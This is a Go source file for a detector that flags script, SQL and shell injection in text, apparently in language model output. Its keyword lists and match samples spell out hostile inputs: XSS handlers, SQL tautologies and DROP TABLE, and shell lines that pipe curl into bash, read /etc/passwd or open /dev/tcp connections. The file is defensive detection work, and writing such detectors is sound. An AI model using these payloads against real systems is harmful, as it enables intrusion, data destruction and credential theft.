package detect

// The types of what does something where it is shown or run.
const (
	ScriptInjection Type = "SCRIPT_INJECTION"
	SQLInjection    Type = "SQL_INJECTION"
	ShellInjection  Type = "SHELL_INJECTION"
)

// The bounds of code.
const (
	tagBytes   = 256 // of a tag in HTML
	blankBytes = 16  // of blanks between two words
)

// What scripts run from, what SQL does to others' data, and what shells are made to do. All in lower case.
var (
	scriptTags = []string{"<script", "<iframe", "<object", "<embed"}
	scriptURLs = []string{"javascript:", "vbscript:", "data:text/html"}
	sqlOrders  = []string{"drop table", "drop database", "delete from", "truncate table", "alter table", "insert into", "update ", "exec ", "exec(", "shutdown", "waitfor delay", "select "}
	shellRuns  = []string{"rm -rf ", "rm -fr ", "rm -r ", "bash -c", "bash -i", "sh -c", "sh -i", "nc -", "ncat -", "mkfifo ", "chmod +x", "chmod 777", "cat /etc/", "python -c", "python3 -c", "perl -e", "powershell", "/bin/sh", "/bin/bash", "base64 -d", "base64 --decode", "curl http", "wget http", "curl -", "wget -"}
	shells     = []string{"sh", "bash", "zsh", "dash", "ksh", "python", "python3", "perl"}
)

// executes checks what can begin with the byte at i.
func (r *reader) executes(i int) {
	switch r.text[i] {
	case '<':
		r.tag(i)
	case '(', '=':
		r.scriptURL(i)
	case '\'', '"':
		r.sql(i)
	case ';', '|', '&', '`', '$':
		r.shell(i)
	case 'C', 'T':
		r.bic(i)
	case '/':
		if r.has(i, "/dev/tcp/") {
			r.found("out.shell", ShellInjection, High, 0.8, i, i+len("/dev/tcp/"))
		}
	}
}

// tag checks for a tag that runs a script: one of its own, or a handler among its attributes.
func (r *reader) tag(i int) {
	for _, t := range scriptTags {
		if r.hasFold(i, t) && contains(" \t\n\r/>", r.at(i+len(t))) {
			r.found("out.script", ScriptInjection, High, 0.8, i, i+len(t)+1)
			return
		}
	}
	if c := r.at(i + 1); c != '/' && !letter(c) {
		return
	}
	for at := i + 2; at-i < tagBytes; at++ {
		switch c := r.at(at); {
		case c == 0 || c == '>' || c == '<':
			return
		case c == '/' || c <= ' ':
			if end := r.handler(at + 1); end > 0 {
				r.found("out.script", ScriptInjection, High, 0.8, i, end)
				return
			}
		}
	}
}

// handler is where the name of an event handler and its sign end, 0 if none stands at i.
func (r *reader) handler(i int) int {
	if !r.hasFold(i, "on") {
		return 0
	}
	at := i + 2
	for at-i < 24 && letter(r.at(at)) {
		at++
	}
	if at-i < 5 {
		return 0
	}
	if at = r.blanks(at); r.at(at) == '=' {
		return at + 1
	}
	return 0
}

// scriptURL checks for an address behind a bracket or a sign that is a script.
func (r *reader) scriptURL(i int) {
	at := r.blanks(i + 1)
	if c := r.at(at); c == '"' || c == '\'' {
		at++
	}
	for _, u := range scriptURLs {
		if r.hasFold(at, u) {
			if r.at(at+len(u)) > ' ' {
				r.found("out.script", ScriptInjection, High, 0.8, i, at+len(u))
			}
			return
		}
	}
}

// sql checks for what stands behind a quote that ends another's text: an order of its own, a union, or what is always true.
func (r *reader) sql(i int) {
	at := r.blanks(i + 1)
	for k := 0; k < 3 && r.at(at) == ')'; k++ {
		at = r.blanks(at + 1)
	}
	if r.at(at) == ';' {
		at = r.blanks(at + 1)
		if end := r.oneOf(at, sqlOrders); end > 0 {
			r.found("out.sql", SQLInjection, High, 0.8, i, end)
		}
		return
	}
	switch {
	case r.hasFold(at, "union") && r.at(at+5) <= ' ':
		at = r.blanks(at + 5)
		if r.hasFold(at, "all") && r.at(at+3) <= ' ' {
			at = r.blanks(at + 3)
		}
		if r.hasFold(at, "select") {
			r.found("out.sql", SQLInjection, High, 0.8, i, at+6)
		}
	case r.hasFold(at, "or") && r.at(at+2) <= ' ':
		r.always(i, r.blanks(at+2))
	case r.hasFold(at, "and") && r.at(at+3) <= ' ':
		r.always(i, r.blanks(at+3))
	}
}

// always checks for a comparison of a value with itself at at.
func (r *reader) always(start, at int) {
	if c := r.at(at); c == '\'' || c == '"' {
		at++
	}
	word := at
	for at-word < 16 && alnum(r.at(at)) {
		at++
	}
	n := at - word
	if c := r.at(at); c == '\'' || c == '"' {
		at++
	}
	at = r.blanks(at)
	if r.at(at) != '=' {
		return
	}
	at = r.blanks(at + 1)
	if c := r.at(at); c == '\'' || c == '"' {
		at++
	}
	for k := range n {
		if r.at(at+k) != r.text[word+k] {
			return
		}
	}
	if !alnum(r.at(at + n)) {
		r.found("out.sql", SQLInjection, High, 0.8, start, at+n)
	}
}

// shell checks for a command behind what ends another.
func (r *reader) shell(i int) {
	at := i + 1
	switch r.text[i] {
	case '$':
		if r.at(at) != '(' {
			return
		}
		at++
	case '|', '&':
		if r.at(at) == r.text[i] {
			at++
		}
	}
	piped := r.text[i] == '|' && at == i+1
	at = r.blanks(at)
	if r.has(at, "sudo ") {
		at = r.blanks(at + 5)
	}
	if end := r.oneOf(at, shellRuns); end > 0 {
		r.found("out.shell", ShellInjection, High, 0.8, i, end)
		return
	}
	if !piped {
		return
	}
	for _, s := range shells {
		if r.has(at, s) {
			if c := r.at(at + len(s)); !alnum(c) && c != '.' && c != '-' && c < 0x80 {
				r.found("out.shell", ShellInjection, High, 0.8, i, at+len(s))
			}
		}
	}
}

// oneOf is where the first of words ends that stands at i, whatever its case; 0 if none does.
func (r *reader) oneOf(i int, words []string) int {
	for _, w := range words {
		if r.hasFold(i, w) {
			return i + len(w)
		}
	}
	return 0
}

// blanks is where the blanks at i end.
func (r *reader) blanks(i int) int {
	for k := 0; k < blankBytes; k++ {
		if c := r.at(i); c != ' ' && c != '\t' && c != '\n' && c != '\r' {
			break
		}
		i++
	}
	return i
}

// openCode is where code begins that more text could complete.
func (r *reader) openCode(text string, from int) int {
	r.look(text)
	for i := max(from, len(text)-tagBytes-64); i < len(text); i++ {
		if duties[text[i]]&seeksCode == 0 {
			continue
		}
		r.past, r.into = false, r.into[:0]
		if r.executes(i); r.past {
			return i
		}
	}
	return len(text)
}

func codeRules() []Rule {
	rule := func(id string, typ Type, says, source, check string, match, noMatch []string) Rule {
		return Rule{
			ID: id, Type: typ, Severity: High, Score: 0.8, Description: says, Source: source, Check: check,
			Ahead: tagBytes + 64, Cost: Candidate, Match: match, NoMatch: noMatch,
		}
	}
	return []Rule{
		rule("out.script", ScriptInjection, "HTML that runs a script where it is shown: a tag, a handler of an event, an address that is a script.",
			"OWASP LLM05; HTML Living Standard 4.12.1 and 8.1.8.1", "",
			[]string{`<script>alert(1)</script>`, `<IMG src=x onerror=steal()>`, `<svg/onload=go()>`, `[x](javascript:alert(1))`, `<a href="javascript:go()">`},
			[]string{"a < b and b > c", "<p>one</p>", "<scripture>", "if (x < onset = 3)", "(javascript: a language)", "<a href=\"https://example.com/on=1\">"}),
		rule("out.sql", SQLInjection, "SQL behind a quote that ends another's text: an order, a union, a comparison that is always true.",
			"OWASP LLM05; CWE-89", "value compared with itself",
			[]string{`' OR '1'='1`, `x' or 1=1 --`, `'); DROP TABLE students;--`, `" UNION ALL SELECT password FROM users`},
			[]string{`it's yours or mine`, `"yes" or "no" = open`, `SELECT name FROM users WHERE id = 1;`, `'a' or 1=2`, `the 'union' selected`}),
		rule("out.shell", ShellInjection, "A shell's command behind what ends another, output that is run by a shell, or a shell over the network.",
			"OWASP LLM05; CWE-78", "",
			[]string{"x; rm -rf /tmp/a", "$(curl http://a.example/x)", "curl -s a.example/i | sudo bash", "`cat /etc/passwd`", "> /dev/tcp/10.0.0.1/80"},
			[]string{"bread; butter", "a | b", "us & them", "costs $(5)", "cat | less", "| sh.exe", "push | shell"}),
	}
}
